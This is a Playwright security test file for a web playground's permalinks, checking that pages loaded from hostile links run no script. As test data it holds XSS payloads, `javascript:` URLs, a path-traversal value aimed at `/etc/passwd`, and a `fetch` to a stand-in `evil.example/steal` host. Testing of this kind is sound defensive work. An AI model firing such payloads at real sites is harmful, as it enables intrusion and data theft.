// A hostile link as a reader meets it: a permalink whose workspace holds every payload of
// fixtures/hostile/xss-payloads.txt wherever the panes show text, hostile query strings
// and fragments, every golden link of fixtures/permalinks/, and the page's
// Content-Security-Policy proven live. Nothing may run: no dialog, no script but the
// app's own, no `on*` attribute anywhere, no frame or object, every link and image on an
// allowed scheme, no policy violation, no console error, never a blank page.
import { test, expect } from "@playwright/test";
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { open, shot, watchErrors } from "./helpers.mjs";

const root = path.join(import.meta.dirname, "..");
const editor = (page) => page.getByRole("textbox", { name: /^Contents of / });
const tab = (page, name) => page.getByRole("tab", { name: new RegExp(`^${name}`) });
const PANES = ["Proof", "Review", "Diff", "Tools", "Conversation", "Attack", "Trace"];

// --- the corpus and the link ---------------------------------------------------------

/** The payloads, escapes decoded as the corpus's header says. */
function payloads() {
  const text = fs.readFileSync(path.join(root, "fixtures/hostile/xss-payloads.txt"), "utf8");
  return text
    .split("\n")
    .filter((line) => line.trim() !== "" && !line.startsWith(";;"))
    .map((line) =>
      line.replace(/\\(n|r|t|\\|x[0-9A-Fa-f]{2}|u\{[0-9A-Fa-f]+\})/g, (_, e) => {
        if (e === "n") return "\n";
        if (e === "r") return "\r";
        if (e === "t") return "\t";
        if (e === "\\") return "\\";
        if (e.startsWith("x")) return String.fromCharCode(parseInt(e.slice(1), 16));
        return String.fromCodePoint(parseInt(e.slice(2, -1), 16));
      }),
    );
}

/** Every file of a built-in example, as [area/path, text]. */
function exampleFiles(id) {
  const dir = path.join(root, "content/examples", id);
  const files = [];
  for (const area of ["before", "after", "server", "crm"]) {
    const walk = (at) => {
      for (const entry of fs.readdirSync(path.join(dir, area, at), { withFileTypes: true })) {
        const relative = at ? `${at}/${entry.name}` : entry.name;
        if (entry.isDirectory()) walk(relative);
        else files.push([`${area}/${relative}`, fs.readFileSync(path.join(dir, area, relative), "utf8")]);
      }
    };
    walk("");
  }
  return files;
}

const AREAS = ["before", "after", "server", "crm"];

/** A v1 full-form link (`swaplab_core::permalink`'s format), built here from the files:
 *  str(example) open varint(n) { area str(path) str(text) }, zlib, URL-safe base64. */
function fullLink(files, { example = "", open = null } = {}) {
  const parts = [];
  const varint = (n) => {
    const out = [];
    do {
      let byte = n & 0x7f;
      n = Math.floor(n / 128);
      if (n > 0) byte |= 0x80;
      out.push(byte);
    } while (n > 0);
    parts.push(Buffer.from(out));
  };
  const str = (s) => {
    const bytes = Buffer.from(s, "utf8");
    varint(bytes.length);
    parts.push(bytes);
  };
  const split = (file) => {
    const slash = file.indexOf("/");
    return [AREAS.indexOf(file.slice(0, slash)), file.slice(slash + 1)];
  };
  // File-tree order: area, then the path's UTF-8 bytes.
  const sorted = files
    .map(([file, text]) => [...split(file), text])
    .sort((a, b) => a[0] - b[0] || Buffer.compare(Buffer.from(a[1]), Buffer.from(b[1])));
  str(example);
  if (open) {
    const [area, p] = split(open);
    parts.push(Buffer.from([1 + area]));
    str(p);
  } else {
    parts.push(Buffer.from([0]));
  }
  varint(sorted.length);
  for (const [area, p, text] of sorted) {
    parts.push(Buffer.from([area]));
    str(p);
    str(text);
  }
  const deflated = zlib.deflateSync(Buffer.concat(parts));
  return "v1f" + deflated.toString("base64").replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
}

const HOSTILE_SKILL = "after/skills/hostile/skill.md";

/** The tutorial with the whole corpus wherever a pane shows text: skill prose and
 *  description, a tool's description and docstring, a CRM contact, a conversation's
 *  turns, and file names. */
function hostileWorkspace(list) {
  const files = exampleFiles("tutorial");
  const all = list.join("\n\n");
  const quoted = (s) => JSON.stringify(s); // a YAML and Python string literal alike
  files.push([HOSTILE_SKILL, `---\nname: hostile\ndescription: ${quoted(list.slice(0, 20).join(" "))}\n---\n${all}\n`]);
  const server = files.find(([f]) => f === "server/scripts/mcp_crm_server.py");
  server[1] +=
    `\n\n@mcp.tool(description=${quoted(all)})\n` +
    `async def hostile_tool(note: str) -> CrmResult:\n    ${quoted(all)}\n    return CrmResult(ok=True, note=note)\n`;
  const seed = files.find(([f]) => f === "crm/crm.yml");
  seed[1] = seed[1].replace(
    "contacts:\n",
    `contacts:\n  - id: "703"\n    firstname: ${quoted(list[5])}\n    lastname: ${quoted(list[12])}\n    company: ${quoted(list[0])}\n    email: hostile@example.com\n`,
  );
  const turns = list.map((p) => `  - user: ${quoted(p)}\n`).join("");
  files.push(["crm/conversations/hostile.yml", `caller: hostile@example.com\nturns:\n${turns}`]);
  // Hostile names that are still paths the editor accepts; a `\\` or a control
  // character is refused outright (see `REFUSED_NAMES`).
  const names = ["<img src=x onerror=alert(1)>.md", "<svg onload=alert(1)>.yml", "javascript:alert(1).py"];
  for (const name of names) {
    files.push([`after/notes/${name}`, all]);
  }
  return files;
}

// --- what must never be in the page ---------------------------------------------------

/** Records `securitypolicyviolation` events and dialogs from the first script on. */
async function armed(page) {
  const dialogs = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    d.dismiss();
  });
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`),
    );
  });
  return dialogs;
}

/** Looks at the whole document: scripts, handlers, frames, URLs and violations. */
async function checkDocument(page, where) {
  const found = await page.evaluate(() => {
    const problems = [];
    const allowed = new Set(["http:", "https:", "mailto:"]);
    const scheme = (url) => {
      try {
        return new URL(url, document.baseURI).protocol;
      } catch {
        return "unparsable:";
      }
    };
    for (const script of document.scripts) {
      const src = script.getAttribute("src");
      const own =
        (src && new URL(src, document.baseURI).origin === location.origin && /\/theme-[0-9a-f]+\.js$/.test(src)) ||
        (!src && script.type === "module" && script.text.startsWith("import init"));
      if (!own) problems.push(`a script that is not the app's: ${script.outerHTML.slice(0, 120)}`);
    }
    for (const el of document.querySelectorAll("*")) {
      for (const name of el.getAttributeNames()) {
        if (name.toLowerCase().startsWith("on")) problems.push(`${el.tagName} has ${name}`);
      }
    }
    for (const tag of ["iframe", "frame", "object", "embed", "applet", "portal", "form[action]"]) {
      for (const el of document.querySelectorAll(tag)) problems.push(`a ${tag}: ${el.outerHTML.slice(0, 120)}`);
    }
    for (const el of document.querySelectorAll("a[href], area[href], [*|href]:not(link):not(base)")) {
      const url = el.getAttribute("href") ?? el.getAttribute("xlink:href");
      if (!allowed.has(scheme(url))) problems.push(`${el.tagName} href=${url}`);
    }
    for (const el of document.querySelectorAll("img[src], source[src], video[src], audio[src], [srcset]")) {
      if (!allowed.has(scheme(el.getAttribute("src") ?? ""))) problems.push(`${el.tagName} src=${el.getAttribute("src")}`);
      if (el.hasAttribute("srcset")) problems.push(`${el.tagName} srcset`);
    }
    const bases = [...document.querySelectorAll("base")];
    if (bases.length !== 1) problems.push(`${bases.length} <base> elements`);
    for (const meta of document.querySelectorAll("meta[http-equiv]")) {
      if (meta.httpEquiv.toLowerCase() !== "content-security-policy" || meta !== document.querySelector("meta[http-equiv]")) {
        problems.push(`meta http-equiv=${meta.httpEquiv}`);
      }
    }
    problems.push(...window.__violations.map((v) => `CSP violation: ${v}`));
    const foreign = [...document.querySelectorAll("a[href]")].filter((a) => new URL(a.href).origin !== location.origin);
    return {
      problems,
      elements: document.querySelectorAll("*").length,
      links: document.querySelectorAll("a[href]").length,
      foreign: foreign.map((a) => a.href),
    };
  });
  expect(found.problems, `${where}:\n${found.problems.join("\n")}`).toEqual([]);
  expect(found.elements, `${where}: the page is not blank`).toBeGreaterThan(30);
  return found;
}

// --- (a) the corpus through a link ----------------------------------------------------

test("a link carrying every payload in every pane runs nothing and shows it all as text", async ({ browser, baseURL }, testInfo) => {
  // A big workspace, looked at whole in many states: more than the default 30 s.
  test.setTimeout(90_000);
  const started = Date.now();
  const list = payloads();
  expect(list.length).toBeGreaterThanOrEqual(100);
  const link = fullLink(hostileWorkspace(list), { example: "tutorial", open: HOSTILE_SKILL });
  expect(link.length).toBeLessThan(64 * 1024);
  // A fresh browser, as whoever receives the link.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const watch = watchErrors(page);
  const dialogs = await armed(page);
  await page.goto(`play?script=hostile#${link}`);
  await expect(page.locator("header nav")).toBeVisible();
  await expect(page.locator(".notice", { hasText: "Opened from a link." })).toBeVisible();
  await expect(editor(page)).toHaveAccessibleName(`Contents of ${HOSTILE_SKILL}`);
  // The payloads are there, as text.
  await expect(editor(page)).toHaveValue(/<script>alert\(1\)<\/script>/);
  await expect(page.locator(".code-view")).toContainText("<img src=x onerror=alert(1)>");
  // Opening a link writes nothing to the browser's storage.
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([]);
  let checked = 0;
  let links = 0;
  const look = async (where) => {
    const found = await checkDocument(page, where);
    // Every link in the playground stays on the site: a link's files add none.
    expect(found.foreign, where).toEqual([]);
    checked += 1;
    links = Math.max(links, found.links);
  };
  await look("the hostile skill open");
  for (const name of PANES) {
    await tab(page, name).click();
    await expect(page.getByRole("tabpanel")).not.toBeEmpty();
    if (name === "Tools") {
      const tool = page.locator("details.tool", { hasText: "hostile_tool" });
      await tool.locator("summary").click();
      await expect(tool).toContainText("<svg onload=alert(1)>");
    }
    if (name === "Conversation") {
      await expect(page.getByRole("combobox", { name: "Script" })).toHaveValue(/hostile/);
      await expect(page.getByRole("tabpanel")).toContainText("<script>alert(1)</script>");
    }
    await look(`the ${name} pane`);
    await shot(page, testInfo, `hostile-${name.toLowerCase()}`);
  }
  // Every file the link holds, in the editor and its highlighted copy.
  const hostileFiles = [
    "after/notes/<img src=x onerror=alert(1)>.md",
    "crm/conversations/hostile.yml",
    "server/scripts/mcp_crm_server.py",
    "crm/crm.yml",
  ];
  for (const file of hostileFiles) {
    await page.locator(`[data-file="${file.replaceAll('"', '\\"')}"]`).click();
    await expect(editor(page)).toHaveAccessibleName(`Contents of ${file}`);
    await look(`the editor on ${file}`);
  }
  // The hostile skill, added by the swap, as a diff side by side.
  await page.locator(`[data-file="${HOSTILE_SKILL}"]`).click();
  await tab(page, "Diff").click();
  await expect(page.locator(".file-diff h3")).toHaveText(`${HOSTILE_SKILL}, added by the swap`);
  await page.getByRole("checkbox", { name: "side by side" }).check();
  await expect(page.locator("table.diff.side-by-side")).toContainText("<svg onload=alert(1)>");
  await look("the side-by-side diff");
  await shot(page, testInfo, "hostile-diff-side-by-side");
  // Still nothing stored: the reader has not typed.
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([]);
  // The reader shares it on.
  await page.getByRole("button", { name: "Share" }).click();
  await expect(page.getByRole("textbox", { name: "Link to this workspace" })).toHaveValue(/#v1[ef]/);
  await look("the share box");
  expect(dialogs).toEqual([]);
  watch.check();
  console.log(
    `hostile link: ${list.length} payloads, ${link.length} characters, ${checked} page states checked ` +
      `(up to ${links} links each) in ${((Date.now() - started) / 1000).toFixed(1)} s`,
  );
  await context.close();
});

// File names the one path rule refuses, with the editor's words for each.
const REFUSED_NAMES = [
  ['"><script>alert(1)<\\script>.md', "contains “\\”: folders are separated by “/”"],
  ["line\nbreak\u0001<script>alert(1)</script>.md", "contains a control character"],
  ["notes//<img src=x onerror=alert(1)>.md", "has an empty folder name (“//”)"],
];

test("a link naming a file the editor would refuse is refused in the editor's words, and nothing runs", async ({ browser, baseURL }) => {
  for (const [name, reason] of REFUSED_NAMES) {
    const files = exampleFiles("tutorial");
    files.push([`after/notes/${name}`, "<script>alert(1)</script>"]);
    const context = await browser.newContext({ baseURL });
    const page = await context.newPage();
    const watch = watchErrors(page);
    const dialogs = await armed(page);
    await page.goto(`play#${fullLink(files, { example: "tutorial" })}`);
    const notice = page.locator(".notice", { hasText: "The link could not be opened" });
    await expect(notice).toBeVisible();
    await expect(notice).toContainText(reason);
    await expect(notice).toContainText("so the page kept the default example");
    // The example is on screen, whole, and nothing was stored.
    await expect(page.locator('[data-file="after/skills/check_tickets/skill.md"]')).toBeVisible();
    expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([]);
    await checkDocument(page, `a link naming ${JSON.stringify(name)}`);
    expect(dialogs).toEqual([]);
    watch.check();
    await context.close();
  }
});

// --- (b) hostile URLs -----------------------------------------------------------------

const HOSTILE_URLS = [
  ["?file=javascript:alert(1)", null],
  ["?file=after/../../etc/passwd&line=3", null],
  ["?tab=<script>alert(1)</script>", null],
  ["?tab=javascript:alert(1)&policy=<img src=x onerror=alert(1)>&side=<svg onload=alert(1)>&script=<script>", null],
  ["?line=-1", null],
  ["?file=after/skills/check_tickets/skill.md&line=99999999999", null],
  ["?example=<img src=x onerror=alert(1)>", "There is no example called “<img src=x onerror=alert(1)>”"],
  ["?example=javascript:alert(1)", "There is no example called “javascript:alert(1)”"],
  ["#v9fAAAA", "This link was made by a newer version of Swap Lab (v9) than this page (v1)"],
  ["#v1", "This link is damaged (nothing follows the version)"],
  ["#v1e<script>alert(1)</script>", "This link is damaged (character 4 is not one a Swap Lab link uses)"],
  ["#v1fAAAA", "This link is damaged"],
  ["#javascript:alert(1)", "This link does not start with a Swap Lab format version"],
  ["#%3Cimg%20src=x%20onerror=alert(1)%3E", "This link does not start with a Swap Lab format version"],
  [`#v1f${"A".repeat(1 << 20)}`, "over the 65536-character limit"],
];

for (const [query, message] of HOSTILE_URLS) {
  test(`play${query.slice(0, 60)}${query.length > 60 ? "…" : ""} is ignored or explained, never run`, async ({ page }) => {
    const watch = watchErrors(page);
    const dialogs = await armed(page);
    await page.goto(`play${query}`);
    await expect(page.locator("header nav")).toBeVisible();
    // The playground is there and working, on the tutorial.
    await expect(tab(page, "Proof")).toContainText("✓");
    if (message) await expect(page.locator(".notice", { hasText: message })).toBeVisible();
    await checkDocument(page, query.slice(0, 80));
    expect(dialogs).toEqual([]);
    watch.check();
  });
}

test("hostile paths outside the playground show the not-found page", async ({ page }) => {
  const watch = watchErrors(page);
  const dialogs = await armed(page);
  for (const where of ["learn/<script>alert(1)<%2Fscript>", "./javascript:alert(1)", "x/<img src=x onerror=alert(1)>"]) {
    const response = await page.goto(where);
    // The static host answers an unknown path with the app (404.html), which says so.
    expect([200, 404]).toContain(response.status());
    await expect(page.locator("header nav")).toBeVisible();
    await expect(page.locator("main")).not.toBeEmpty();
    await checkDocument(page, where);
  }
  expect(dialogs).toEqual([]);
  watch.errors.splice(0, watch.errors.length, ...watch.errors.filter((e) => !/^HTTP 404: /.test(e)));
  watch.check();
});

// --- (c) golden links -----------------------------------------------------------------

const tutorial = Object.fromEntries(exampleFiles("tutorial"));
const LOG = "after/skills/log_interaction/skill.md";

/** What each golden link stands for: the open file and its text, and the files. Every
 *  file in fixtures/permalinks/ must be here. */
const GOLDEN = {
  "v1-tutorial-untouched.txt": {
    files: Object.keys(tutorial),
    open: "after/skills/check_tickets/skill.md",
    text: tutorial["after/skills/check_tickets/skill.md"],
    check: { file: LOG, text: tutorial[LOG] },
  },
  "v1-tutorial-one-line.txt": {
    files: Object.keys(tutorial),
    open: LOG,
    text: tutorial[LOG].replace("Keep them short", "Keep them brief"),
  },
  "v1-tutorial-added-deleted.txt": {
    files: [...Object.keys(tutorial).filter((f) => f !== "before/skills/check_tickets/tools.py"), "crm/notes/added.yml"],
    open: "crm/notes/added.yml",
    text: "name: Zoë\nnote: added by a link\n",
  },
  "v1-full-labelled.txt": {
    files: ["after/agent.yml", "crm/crm.yml"],
    check: { file: "crm/crm.yml", text: "contacts: []\ntickets: []\n" },
  },
  "v1-full-unicode.txt": {
    files: ["after/skills/greet/skill.md", "before/skills/greet/skill.md", "server/server.py"],
    open: "after/skills/greet/skill.md",
    text: "---\nname: greet\n---\nGrüß Gott 👋\n",
    check: { file: "server/server.py", text: "# no newline at the end" },
  },
};

test("every golden link opens the workspace it stands for, in a fresh browser", async ({ browser, baseURL }, testInfo) => {
  const dir = path.join(root, "fixtures/permalinks");
  const names = fs.readdirSync(dir).filter((n) => n.endsWith(".txt")).sort();
  expect(names, "every golden link has an expectation here").toEqual(Object.keys(GOLDEN).sort());
  for (const name of names) {
    const link = fs.readFileSync(path.join(dir, name), "utf8").trim();
    const expected = GOLDEN[name];
    const context = await browser.newContext({ baseURL });
    const page = await context.newPage();
    const watch = watchErrors(page);
    await page.goto(`play#${link}`);
    await expect(page.locator("header nav")).toBeVisible();
    await expect(page.locator(".notice", { hasText: "Opened from a link." })).toBeVisible();
    if (expected.open) {
      await expect(editor(page)).toHaveAccessibleName(`Contents of ${expected.open}`);
      await expect(editor(page)).toHaveValue(expected.text);
    }
    const shown = await page.locator("[data-file]").evaluateAll((els) => els.map((el) => el.dataset.file).sort());
    expect(shown, name).toEqual([...expected.files].sort());
    if (expected.check) {
      await page.locator(`[data-file="${expected.check.file}"]`).click();
      await expect(editor(page)).toHaveValue(expected.check.text);
    }
    await shot(page, testInfo, `golden-${name.replace(".txt", "")}`);
    watch.check();
    await context.close();
  }
});

test("a link from a newer version says so and keeps the reader's draft", async ({ page }) => {
  const watch = watchErrors(page);
  await open(page, "play");
  const area = editor(page);
  await area.focus();
  await area.press("Control+End");
  await page.keyboard.type("\nmy own edit, not to be lost\n");
  await expect(page.locator(".save-status")).toHaveText("Draft saved in this browser");
  const draft = await area.inputValue();
  await page.goto("about:blank");
  await page.goto("play#v2eAAAA");
  await expect(page.locator("header nav")).toBeVisible();
  await expect(
    page.locator(".notice", {
      hasText: "The link could not be opened: This link was made by a newer version of Swap Lab (v2) than this page (v1)",
    }),
  ).toBeVisible();
  await expect(editor(page)).toHaveValue(draft);
  watch.check();
});

// --- the Content-Security-Policy ------------------------------------------------------

test("the page's Content-Security-Policy is live: injected script, handlers, eval and foreign fetches are refused", async ({ page }) => {
  const watch = watchErrors(page);
  const dialogs = await armed(page);
  await open(page, "play");
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  for (const directive of [
    "default-src 'self'",
    "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'none'",
    "connect-src 'self'",
    "frame-src 'none'",
  ]) {
    expect(policy).toContain(directive);
  }
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  // The policy is the first thing in <head>, before any script.
  expect(await page.evaluate(() => document.head.firstElementChild.nextElementSibling.httpEquiv)).toBe("Content-Security-Policy");

  const outcome = await page.evaluate(async () => {
    const violated = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
    // An inline script inserted into the DOM, the way a hostile string would get in.
    const script = document.createElement("script");
    script.textContent = "window.__injected = true; alert('injected');";
    document.body.append(script);
    const first = await violated;
    // An inline handler attribute, then fired.
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.__handler = true; alert('handler')");
    document.body.append(button);
    button.click();
    // A javascript: URL navigated to from a link.
    const a = document.createElement("a");
    a.href = "javascript:window.__href = true";
    document.body.append(a);
    a.click();
    // eval and new Function.
    let evaluated = "ran";
    try {
      eval("1 + 1");
    } catch (e) {
      evaluated = e.name;
    }
    // A request to another origin.
    let fetched = "sent";
    try {
      await fetch("https://evil.example/steal?draft=1");
    } catch (e) {
      fetched = e.name;
    }
    // An object and a frame.
    const object = document.createElement("object");
    object.data = "data:text/html,<script>parent.__object=true</script>";
    document.body.append(object);
    // Each refusal is reported asynchronously, and on a loaded machine the object's load
    // can be late: wait for every expected report (bounded), not for a fixed time.
    const expected = ["script-src-elem", "script-src-attr", "connect-src", "object-src"];
    const reported = () => expected.every((d) => window.__violations.some((v) => v.startsWith(`${d} `)));
    for (let waited = 0; !reported() && waited < 10000; waited += 50) {
      await new Promise((r) => setTimeout(r, 50));
    }
    script.remove();
    button.remove();
    a.remove();
    object.remove();
    return {
      first: first.effectiveDirective,
      ran: [window.__injected, window.__handler, window.__href, window.__object].some(Boolean),
      evaluated,
      fetched,
      violations: window.__violations,
    };
  });
  expect(outcome.first).toBe("script-src-elem");
  expect(outcome.ran).toBe(false);
  expect(outcome.evaluated).toBe("EvalError");
  expect(outcome.fetched).toBe("TypeError");
  const directives = outcome.violations.map((v) => v.split(" ")[0]);
  for (const directive of ["script-src-elem", "script-src-attr", "connect-src", "object-src"]) {
    expect(directives, outcome.violations.join("\n")).toContain(directive);
  }
  expect(dialogs).toEqual([]);
  // The browser reports each refusal on the console: those, and only those, are expected.
  const expected = /Content Security Policy|Refused to|Failed to fetch|evil\.example/;
  const unexpected = watch.errors.filter((e) => !expected.test(e));
  expect(unexpected, unexpected.join("\n")).toEqual([]);
  expect(watch.errors.length).toBeGreaterThan(0);
  // The app is still alive.
  await tab(page, "Review").click();
  await expect(page.getByRole("tabpanel")).not.toBeEmpty();
});
